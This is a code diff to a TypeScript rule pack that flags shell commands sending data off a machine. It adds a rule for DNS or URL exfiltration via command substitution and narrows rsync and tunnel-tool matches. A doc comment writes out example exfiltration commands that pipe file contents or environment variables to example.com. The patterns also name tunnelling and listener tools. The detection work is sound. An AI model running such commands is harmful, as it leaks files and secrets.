@@ -1,5 +1,5 @@
 import type { RulePack } from "../rule.ts";
-import type { ShellCommand } from "../shell/shell-command.ts";
+import { UNKNOWN, type ShellCommand } from "../shell/shell-command.ts";
 
 /** Sending files out. */
 export const exfiltrationPack: RulePack = {
@@ -11,6 +11,13 @@ export const exfiltrationPack: RulePack = {
       reason: "Sends a file to another machine",
       command: "curl|wget|http|https|xh **",
       when: uploadsFile,
+    },
+    {
+      rule: "exfiltration.address",
+      score: 65,
+      reason: "Puts the output of a command into an address",
+      command: "dig|nslookup|host|drill|kdig|ping|curl|wget|http|https|xh **",
+      when: putsOutputIntoAddress,
     },
     {
       rule: "exfiltration.piped-upload",
@@ -35,7 +42,8 @@ export const exfiltrationPack: RulePack = {
       score: 60,
       reason: "Copies files to another machine",
       command: "scp|rsync ...",
-      when: ({ options }) => isRemote(options.operands.at(-1) ?? ""),
+      when: ({ options }) =>
+        isRemote(options.operands.at(-1) ?? "") && !ASKING_COPY.some(options.has),
     },
     {
       rule: "exfiltration.transfer",
@@ -59,7 +67,7 @@ export const exfiltrationPack: RulePack = {
         "socat tcp-listen:*|tcp4-listen:*|udp-listen:*|openssl-listen:*",
         "php -S",
         "ruby -run",
-        "twistd|ngrok|cloudflared|localtunnel|lt|frpc|chisel|bore|serveo|pagekite|tailscale ... !--version|--help|status|version",
+        "twistd|ngrok|cloudflared|localtunnel|lt|frpc|chisel|bore|serveo|pagekite|tailscale ... !--version|--help|status|version|ip|ping|netcheck",
       ],
     },
     {
@@ -115,6 +123,27 @@ export const exfiltrationPack: RulePack = {
 
 /** Programs whose output is their own words. */
 const PRINTERS: ReadonlySet<string> = new Set(["echo", "printf", "yes"]);
+
+/** Programs whose output is what somebody wants to have. */
+const TELLING: ReadonlySet<string> = new Set(
+  "cat base64 base32 xxd od hexdump env printenv tar gzip zip head tail grep sed awk cut tr whoami id uname find ls".split(
+    " ",
+  ),
+);
+
+/** `dig $(cat x | base64).example.com`, `curl "http://example.com/?d=$(env)"`. */
+function putsOutputIntoAddress({ program, words, substituted }: ShellCommand): boolean {
+  if (!substituted.some((name) => TELLING.has(name))) return false;
+  const isWeb = /^(?:curl|wget|https?|xh)$/.test(program);
+  return words.some((word) => {
+    const at = word.indexOf(UNKNOWN);
+    if (at < 0) return false;
+    return isWeb ? /^https?:\/\/[^/]+[/?]/i.test(word.slice(0, at)) : word.indexOf(".", at) > 0;
+  });
+}
+
+/** Options with which `rsync` only says what it would do. */
+const ASKING_COPY: readonly string[] = ["--dry-run", "--list-only", "--help", "--version"];
 
 function isRemote(operand: string): boolean {
   return (
